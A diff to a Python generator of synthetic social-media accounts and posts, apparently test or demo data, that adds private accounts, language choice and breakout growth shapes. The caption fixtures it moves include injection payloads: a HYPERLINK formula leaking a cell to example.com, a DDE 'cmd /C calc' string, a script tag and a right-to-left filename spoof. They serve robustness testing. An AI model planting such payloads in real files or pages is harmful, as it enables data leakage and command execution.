@@ -13,6 +13,7 @@ from collections.abc import Iterator
 from functools import lru_cache
 from typing import Final, NamedTuple
 
+from . import captions
 from .clock import DAY, HOUR
 from .curve import UNIT, Curve, share, views_at
 from .rows import UNKNOWN, AccountRow, CreatorRow, PostRow
@@ -49,50 +50,7 @@ _SECOND = (
     "atelier",
     "club",
 )
-# A caption is an opening around a topic, and a tail.
-_TOPICS = (
-    "sourdough", "a morning routine", "street food", "bike repair", "film photography",
-    "balcony herbs", "overnight oats", "a tiny kitchen", "marathon training", "hand lettering",
-    "cold brew", "a one pan dinner", "night rides", "pottery", "visible mending", "trail running",
-    "houseplants", "budget travel", "a capsule wardrobe", "home espresso", "watercolour",
-    "knife sharpening", "a tidy desk", "dumplings", "vintage denim", "city walks", "camp cooking",
-    "lino printing", "kettlebells", "bouldering", "market days", "natural dyeing",
-    "long exposures", "thrifted lamps", "fresh pasta", "stretching", "kimchi", "a rainy hike",
-    "loop pedals", "train sketches",
-)  # fmt: skip
-_OPENINGS = (
-    "{}, step by step", "{} in 60 seconds", "first try: {}", "why I gave up {}", "POV: {}",
-    "{} without the fuss", "honest take: {}", "my mistakes with {}", "come along: {}",
-    "{} on a budget", "a year of {}", "behind the scenes: {}", "{} for beginners",
-    "is {} worth it?", "{} gone wrong", "back to {}",
-)  # fmt: skip
-_TAILS = (
-    "", "", "", "", "", " 🎉", " #fyp", " – part 2", " 🔥🔥", " (sound on)", " #reels", " ✨", "!",
-    " 👇", " #daily", " | link in bio",
-)  # fmt: skip
-_BEGINNINGS = tuple(
-    text[0].upper() + text[1:]
-    for opening in _OPENINGS
-    for text in (opening.format(topic) for topic in _TOPICS)
-)
 _CATEGORIES = ("tech", "food", "fashion", "fitness", "travel", None)
-
-#: Captions that are legal and that careless programs choke on: formulas, markup, control
-#: characters, scripts.
-HOSTILE_CAPTIONS: Final = (
-    '=HYPERLINK("https://example.com/?leak="&A1,"prize")',
-    "+1 for this [/b] [link=https://example.com]click[/link]",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "<script>alert('caption')</script><b>bold</b> & \"quotes\"",
-    "first line\nsecond line\r\nthird\tline",
-    "مرحبا بالعالم – وصفة اليوم",
-    "שלום \u202etxt.exe\u202c עולם",
-    "👩\u200d👩\u200d👧\u200d👦 family 🏳️\u200d🌈 day",
-    "\u001b[31mred\u001b[0m and a bell \u0007",
-    "zero\u200bwidth, e\u0301 combining, ｆｕｌｌ ｗｉｄｔｈ, İstanbul ß",
-    "-2+3+cmd, \"a\",'b';c",
-    "日本語のキャプション、とても長い" * 8,
-)
 
 # A post's place in its list decides its state, so that every world of 16 posts has each of them.
 _STATES: Final = tuple(
@@ -102,10 +60,12 @@ _STATES: Final = tuple(
 # A multiple of the states, at the place of a normal one.
 _BREAKOUT_EVERY: Final = 48
 _BREAKOUT_AT: Final = 5
+#: How breakouts rise, in turn.
+_SHAPES: Final = ("early peak", "slow climb", "second wave")
 _TWIN_EVERY: Final = 20
-# An ordinary post gains less than a third of its ceiling in a week, and no ceiling is above
-# 614,400; a breakout gains more than half of its boost, so that none is behind an ordinary post.
-_LEAST_BOOST: Final = 450_000
+# Of the accounts, these became private: nothing of theirs can be reached any more.
+_PRIVATE_EVERY: Final = 17
+_PRIVATE_AT: Final = 12
 _NO_BOOST: Final = (0, 0, 1)
 
 
@@ -143,6 +103,12 @@ def reach(seed: int | str, platform: int, username: str) -> int:
     return int.from_bytes(raw, "big") % 8
 
 
+@lru_cache(maxsize=4096)
+def _tongue(seed: int | str, platform: int, username: str) -> int:
+    """The number that chooses the language of an author."""
+    return int.from_bytes(_digest(f"{seed}:tongue:{platform}:{username.casefold()}", 4), "big")
+
+
 def follower_count(base: int, daily: int, added_at: int, instant: int) -> int:
     """Followers of a profile at an instant; a straight line is enough here."""
     return max(0, base + daily * (instant - added_at) // DAY)
@@ -173,16 +139,19 @@ class World:
         """Caption and growth of a post, without a late rise."""
         raw = _digest(f"{self.seed}:post:{platform}:{external_id}", 32)
         a, b, c, d, e, f, g, h = struct.unpack(">8I", raw)
-        step = 150 << (reach(self.seed, platform, author) + a % 5)
-        # Half of a post's views come within one to 18 days; most posts are quick.
-        tail = 17 * DAY
+        # Most posts do as well as their author always does, few do much better.
+        step = (1000 << reach(self.seed, platform, author)) * (1 + a % 3 * ((a >> 8) % 3))
+        # Half of a post's views come within two to 30 days; most posts are quick.
+        tail = 28 * DAY
         likes = 200 + d % 800
         return Traits(
-            HOSTILE_CAPTIONS[g % len(HOSTILE_CAPTIONS)] if h % 16 == 0 else _caption(f, g),
+            captions.HOSTILE_CAPTIONS[g % len(captions.HOSTILE_CAPTIONS)]
+            if h % 16 == 0
+            else captions.caption(_tongue(self.seed, platform, author), f, g),
             Curve(
                 published,
                 step + b % step,
-                DAY + min(c % tail, (c >> 8) % tail),
+                2 * DAY + min(c % tail, (c >> 8) % tail),
                 *_NO_BOOST,
                 likes,
                 3 + likes * (e % 6 + 1) // 100,  # comments
@@ -212,7 +181,7 @@ class World:
         raw = _digest(f"{self.seed}:profile:{platform}:{username.casefold()}", 16)
         a, b, c, d = struct.unpack(">4I", raw)
         gap = DAY + c % (4 * DAY)
-        audience = 1000 << reach(self.seed, platform, username)
+        audience = 2000 << reach(self.seed, platform, username)
         followers = audience + b % audience
         return AccountRow(
             n=n,
@@ -250,15 +219,17 @@ class World:
             row = self.account(n, platform, name, added)
             paused = n % 13 == 9
             last = self.now - 300 - c % (21 * HOUR)
-            if paused:
+            private = n % _PRIVATE_EVERY == _PRIVATE_AT
+            if paused or private:
                 last -= 4 * DAY
             yield row._replace(
                 category=_CATEGORIES[a % len(_CATEGORIES)],
                 creator=(n % creators) + 1 if creators and n % 5 else None,
                 is_active=0 if paused else 1,
+                is_unavailable=int(private),
                 first_scrape_time=added + 2,
                 last_scrape_time=last,
-                next_refresh=None if paused else last + DAY,
+                next_refresh=None if paused or private else last + DAY,
                 follower_count=follower_count(row.follower_base, row.follower_daily, added, last),
                 next_post_at=self.now + DAY + b % (2 * DAY),
             )
@@ -290,6 +261,7 @@ class World:
                 and twin < self.account_video_count
                 and _state(twin) == "normal"
                 and accounts[twin % len(accounts)].is_active
+                and not accounts[twin % len(accounts)].is_unavailable
             ):
                 yield self._twin(i + 1, self._account_video(twin, accounts))
             else:
@@ -313,6 +285,7 @@ class World:
             newest=account.last_scrape_time,
             author=account.username,
             account=account.n,
+            private=bool(account.is_unavailable),
         )
 
     def _video(self, i: int) -> PostRow:
@@ -357,13 +330,16 @@ class World:
         newest: int,
         author: str,
         account: int | None = None,
+        private: bool = False,
     ) -> PostRow:
         """A post in the state that its place in the list gives it."""
         draw, a, b = struct.unpack_from(">Q2I", raw, 16)
         place = _place(i)
         state = _STATES[place % len(_STATES)]
-        breakout = place % _BREAKOUT_EVERY == _BREAKOUT_AT
+        breakout = place % _BREAKOUT_EVERY == _BREAKOUT_AT and not private
+        shape = _SHAPES[place // _BREAKOUT_EVERY % len(_SHAPES)]
         last = newest
+        age = HOUR + b % (20 * DAY)  # at the first refresh
         if state == "gone":
             last -= 10 * DAY + a % (10 * DAY)
         elif state == "paused":
@@ -371,25 +347,23 @@ class World:
         first = last
         if state == "young":
             first -= DAY + a % (5 * DAY)
+        elif breakout and shape == "second wave":
+            first -= 16 * DAY + a % (13 * DAY)
+            age = HOUR
         elif breakout:
             first -= 35 * DAY + a % (40 * DAY)
         elif state != "single":
             span = 100 * DAY
             first -= 10 * DAY + min(a % span, (draw >> 20) % span)
         added = first - 2
-        published = added - HOUR - b % (20 * DAY)
+        published = added - age
         external_id = _external_id(platform, draw, n)
         caption, curve = self.traits(platform, external_id, published, author)
         if breakout:
-            caption = _caption(a, b)  # read on the first screen of many a demonstration
-            boost = (_LEAST_BOOST + a % _LEAST_BOOST) << b % 3
-            curve = curve._replace(
-                # Rises of 2.4 to 12.4 times what came before; steep ones are rare.
-                ceiling=10 * boost // (24 + a % 11 * (b % 11)),
-                boost=boost,
-                boost_at=last - 2 * DAY - b % (3 * DAY),
-                boost_half=6 * HOUR + b % (12 * HOUR),
-            )
+            # Read on the first screen of many a demonstration: no caption that tries programs.
+            caption = captions.caption(_tongue(self.seed, platform, author), a, b)
+            audience = reach(self.seed, platform, author)
+            curve = _breaking_out(curve, shape, last, audience=audience, a=a, b=b)
         known = state != "never"
         if not known:
             first = last = UNKNOWN
@@ -403,7 +377,7 @@ class World:
             author,
             caption,
             int(state not in ("never", "paused")),
-            int(state == "gone"),
+            int(state == "gone" or (private and known)),
             hours,
             None,
             added,
@@ -423,9 +397,26 @@ class World:
         )
 
 
-def _caption(a: int, b: int) -> str:
-    beginning = _BEGINNINGS[a % len(_OPENINGS) * len(_TOPICS) + b % len(_TOPICS)]
-    return beginning + _TAILS[(a >> 8) % len(_TAILS)]
+def _breaking_out(curve: Curve, shape: str, last: int, *, audience: int, a: int, b: int) -> Curve:
+    """The growth of a post that gains 1.5 to 20 times its views in the week before ``last``."""
+    # What it had before is little for its author, so that the rise is not out of proportion.
+    before = 700 << audience
+    before += b % before
+    times = 20 + a % 11 * (b % 11)  # in tenths; steep rises are rare
+    if shape == "early peak":
+        boost, start, half = times, 5 * DAY + b % (2 * DAY), 3 * HOUR + a % (9 * HOUR)
+    elif shape == "slow climb":
+        # It goes on long after the week, so its ceiling is far away.
+        boost, start, half = 16 * times, 9 * DAY + b % (2 * DAY), 18 * DAY + a % (6 * DAY)
+    else:
+        boost, start, half = 25 + times // 12, 2 * DAY + b % DAY, 6 * HOUR + a % (4 * HOUR)
+    return curve._replace(
+        ceiling=before,
+        half_life=12 * HOUR + a % DAY,
+        boost=before * boost // 10,
+        boost_at=last - start,
+        boost_half=half,
+    )
 
 
 def _place(i: int) -> int:
